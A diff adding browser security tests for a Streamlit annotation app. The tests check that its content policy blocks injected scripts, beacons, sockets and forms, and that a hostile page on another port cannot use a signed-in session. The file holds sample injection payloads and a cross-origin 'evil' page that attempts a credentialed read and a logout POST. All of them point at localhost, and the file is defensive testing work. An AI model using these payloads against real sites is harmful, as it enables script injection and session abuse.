@@ -1,0 +1,241 @@
+"""What a real browser lets the app's pages do, and what other pages can't do with the app."""
+
+from __future__ import annotations
+
+import re
+import shutil
+import threading
+from contextlib import closing, contextmanager
+from functools import partial
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from typing import TYPE_CHECKING
+
+import pytest
+from playwright.sync_api import expect
+
+from annotator import accounts, project, settings
+from annotator.importing import import_file
+from annotator.ordering import enqueue_import
+from db import decisions
+from pages.widgets.session import COOKIE
+from tests import reviewed
+from tests.browser.conftest import CHROMIUM_ARGUMENTS, PATIENCE_MS
+from tests.browser.test_main_job import press, wait_until
+from tests.conftest import ROOT
+from tests.pages.test_gate import PASSWORD, serving, session_of
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+    from playwright.sync_api import Browser, BrowserContext, Page, Response
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+
+WATCH = "document.addEventListener('securitypolicyviolation', e => note(e.effectiveDirective + ' ' + e.blockedURI))"
+DIARIES = "text\n" + "\n".join(f"{n}번째 일기. 오늘은 비가 왔다." for n in range(20))
+
+
+def page_names() -> list[str]:
+    """Return the address of every page of the app."""
+    names = re.findall(r'^    "(\w+)": \("pages/', (ROOT / "streamlit_app.py").read_text("utf-8"), re.MULTILINE)
+    assert len(names) > 10
+    return names
+
+
+@pytest.fixture(scope="module")
+def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A project in which every page has something to show, charts among it."""
+    path = tmp_path_factory.mktemp("policy") / "policy.db"
+    project.init(path, seed="00" * 16, blind_share=0.0)
+    with closing(project.open_project(path)) as db:
+        reviewed.make(db, 40)
+        settings.change(db, speech_model=str(path.parent))
+        import_file(db, DIARIES.encode(), "a.csv", after=enqueue_import)
+    return path
+
+
+@pytest.fixture(scope="module")
+def address(path: Path) -> Iterator[str]:
+    with serving(path) as port:
+        yield f"http://127.0.0.1:{port}"
+
+
+def watched(context: BrowserContext) -> list[str]:
+    """Return what the content policy stops on the pages of a browser profile, as it happens."""
+    found: list[str] = []
+    context.expose_function("note", lambda violation: found.append(violation))
+    context.add_init_script(WATCH)
+    return found
+
+
+@pytest.fixture
+def violations(context: BrowserContext) -> list[str]:
+    return watched(context)
+
+
+def settle(page: Page) -> None:
+    page.locator("[data-test-script-state='notRunning']").wait_for()
+    expect(page.locator("[data-testid='stSkeleton']")).to_have_count(0)
+
+
+@pytest.mark.parametrize("language", ["ko", "en"])
+def test_every_page_runs_under_the_policy(
+    address: str, page: Page, context: BrowserContext, violations: list[str], language: str
+) -> None:
+    context.add_cookies([{"name": "maeumgyeol_language", "value": language, "url": address}])
+    page.goto(address)
+    settle(page)
+    charts = 0
+    for name in page_names():
+        page.goto(f"{address}/{name}")
+        settle(page)
+        charts += page.locator(".js-plotly-plot").count()
+        assert violations == [], name
+    assert charts > 0
+
+
+def test_what_people_do_runs_under_the_policy(
+    address: str, path: Path, page: Page, context: BrowserContext, violations: list[str], tmp_path: Path
+) -> None:
+    page.goto(address)
+    expect(page.get_by_role("article")).to_contain_text(re.compile(r"#\d+"))
+    with closing(project.open_project(path)) as db:
+        before = decisions.last_decision_id(db)
+        press(page, "Digit1")
+        wait_until(page, lambda: decisions.last_decision_id(db) == before + 1)
+    page.get_by_text("English").click()
+    expect(page.get_by_role("link", name="Overview")).to_be_visible()
+    page.reload()
+    expect(page.get_by_role("link", name="Overview")).to_be_visible()
+    assert any(each.get("value") == "en" for each in context.cookies()), "our one inline script ran"
+    page.goto(f"{address}/import")
+    (tmp_path / "b.csv").write_text("text\n가져올 일기\n", "utf-8")
+    page.locator("input[type=file]").set_input_files(tmp_path / "b.csv")
+    page.get_by_role("button", name="Import", exact=True).click()
+    page.goto(f"{address}/team")
+    settle(page)
+    with page.expect_download() as download:
+        page.locator("[data-testid='stDownloadButton'] button").first.click()
+    assert download.value.path().stat().st_size > 0
+    assert violations == []
+
+
+def test_a_recording_is_made_played_and_sent_under_the_policy(browser: Browser, address: str) -> None:
+    fake = ["--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"]
+    found = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+    arguments = [*CHROMIUM_ARGUMENTS, *fake]
+    with closing(browser.browser_type.launch(executable_path=found, args=arguments)) as chromium:
+        context = chromium.new_context(permissions=["microphone"], locale="ko-KR")
+        context.set_default_timeout(PATIENCE_MS)
+        violations, page = watched(context), context.new_page()
+        page.goto(f"{address}/try_out")
+        settle(page)
+        page.get_by_text("말로").first.click()
+        page.get_by_role("button", name="Record", exact=True).click()
+        page.wait_for_timeout(1500)  # what is recorded is time itself
+        with page.expect_response(_is_upload) as sent:
+            page.get_by_role("button", name="Stop recording").click()
+        assert sent.value.status == 204
+        settle(page)
+        assert violations == []
+
+
+def _is_upload(answer: Response) -> bool:
+    return "upload_file" in answer.url and answer.request.method == "PUT"
+
+
+HEAD, BODY = (
+    "document.head.insertAdjacentHTML('beforeend', `{}`)",
+    "document.body.insertAdjacentHTML('beforeend', `{}`)",
+)
+MADE = "document.head.append(Object.assign(document.createElement('{}'), {}))"
+
+ESCAPES = {
+    "an image": ("new Image().src = 'http://127.0.0.1:1/x.png'", "img-src"),
+    "a question": ("fetch('http://127.0.0.1:1/').catch(() => 0)", "connect-src"),
+    "a websocket": ("try { new WebSocket('ws://127.0.0.1:1/') } catch (e) {}", "connect-src"),
+    "a beacon": ("navigator.sendBeacon('http://127.0.0.1:1/', 'x')", "connect-src"),
+    "a script from elsewhere": (MADE.format("script", "{src: 'http://127.0.0.1:1/x.js'}"), "script-src"),
+    "a script in the page": (MADE.format("script", "{textContent: 'window.ran = 1'}"), "script-src"),
+    "a handler in the page": (BODY.format("<img src=x onerror='ran=1'>"), "script-src"),
+    "a text run as code": ("setTimeout('window.ran = 1')", "script-src"),
+    "a style": (MADE.format("link", "{rel: 'stylesheet', href: 'http://127.0.0.1:1/x.css'}"), "style-src"),
+    "a frame": (BODY.format("<iframe src='/'></iframe>"), "frame-src"),
+    "an object": (BODY.format("<object data='/'></object>"), "object-src"),
+    "another base": (HEAD.format("<base href='http://127.0.0.1:1/'>"), "base-uri"),
+    "a form": (
+        BODY.format("<form method=post action='http://127.0.0.1:1/' id=f></form>") + "; document.forms.f.submit()",
+        "form-action",
+    ),
+}
+"""What a script that got into a page might try, and the rule that stops it."""
+
+
+@pytest.mark.parametrize("name", ESCAPES)
+def test_nothing_gets_out_of_a_page(address: str, browser: Browser, name: str) -> None:
+    attempt, rule = ESCAPES[name]
+    with closing(browser.new_context()) as context:
+        violations, page = watched(context), context.new_page()
+        page.goto(address)
+        settle(page)
+        page.evaluate(attempt)
+        wait_until(page, lambda: any(each.startswith(rule) for each in violations))
+        assert page.evaluate("window.ran") is None
+
+
+@contextmanager
+def elsewhere(folder: Path) -> Iterator[str]:
+    """Serve a folder on another port of this machine."""
+    handler = partial(_Quiet, directory=str(folder))
+    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}"
+        server.shutdown()
+
+
+class _Quiet(SimpleHTTPRequestHandler):
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+ATTACK = """<!doctype html><title>evil</title><iframe id="frame" src="APP/overview"></iframe><script>
+const socket = new WebSocket("APP".replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
+socket.onopen = () => { window.socket = "open"; };
+socket.onerror = () => { window.socket = "refused"; };
+fetch("APP/_stcore/host-config", {credentials: "include"}).then(() => { window.read = "read"; },
+  () => { window.read = "refused"; });
+fetch("APP/logout", {method: "POST", mode: "no-cors", credentials: "include"}).finally(() => { window.posted = 1; });
+</script><script src="APP/_stcore/host-config"></script>"""
+
+
+@pytest.mark.parametrize("is_solo", [True, False])
+def test_a_page_on_another_port_can_do_nothing_with_a_signed_in_app(
+    browser: Browser, tmp_path: Path, is_solo: bool
+) -> None:
+    path = tmp_path / "attacked.db"
+    project.init(path)
+    if not is_solo:
+        with project.opened(path) as db:
+            accounts.add(db, None, "수아", "administrator", password=PASSWORD)
+    site = tmp_path / "site"
+    site.mkdir()
+    with serving(path) as port, elsewhere(site) as evil, closing(browser.new_context()) as context:
+        app = f"http://127.0.0.1:{port}"
+        (site / "index.html").write_text(ATTACK.replace("APP", app))
+        if not is_solo:
+            context.add_cookies([{"name": COOKIE, "value": session_of(path, "수아"), "url": app}])
+        own = context.new_page()
+        own.goto(app)
+        settle(own)
+        page = context.new_page()
+        page.goto(evil)
+        page.wait_for_function("window.socket && window.read && window.posted")
+        assert page.evaluate("[window.socket, window.read]") == ["refused", "refused"]
+        assert (
+            page.frames[-1].url.startswith(("chrome-error:", "about:blank"))
+            or not page.frames[-1].locator("#root").count()
+        )
+        own.reload()
+        settle(own)
+        expect(own.locator("[data-testid='stSidebar']")).to_be_visible()
